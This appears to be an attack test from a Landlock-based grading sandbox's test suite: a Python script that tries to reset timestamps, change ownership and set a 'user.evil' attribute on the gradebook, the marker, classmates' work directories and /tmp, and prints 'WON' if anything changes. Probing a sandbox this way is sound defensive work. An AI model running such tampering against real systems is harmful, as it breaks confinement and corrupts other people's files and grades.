# /// attack
# says = "ran to its end"
# ///
"""Change times, owners and attributes of files outside, which Landlock does not rule; believe only what stat says."""

import os

own = os.path.realpath(os.environ["TMPDIR"])
above = os.path.dirname(own)
places = [PATHS[name] for name in ("gradebook", "marker", "root", "classmate", "code", "packages")]
places += [f"{above}/{number}/work" for number in range(1, 200)] + [above, "/tmp"]


def looks(place):
    try:
        status = os.stat(place)
    except OSError:
        return None
    return status.st_mtime_ns, status.st_uid, status.st_mode


for place in places:
    before = looks(place)
    for act in (
        lambda: os.utime(place, (0, 0)),
        lambda: os.chown(place, os.getuid(), os.getgid()),
        lambda: os.setxattr(place, "user.evil", b"1"),
        lambda: os.lchown(place, 0, 0),
        lambda: os.utime(os.open(place, os.O_PATH), (0, 0)),
        lambda: os.utime(os.open(place, os.O_RDONLY), (0, 0)),
    ):
        try:
            act()
        except OSError:
            pass
    if looks(place) != before and place not in (own, "/tmp" if above == "/" else ""):
        print("WON: changed", place)
raise RuntimeError("the attack ran to its end")
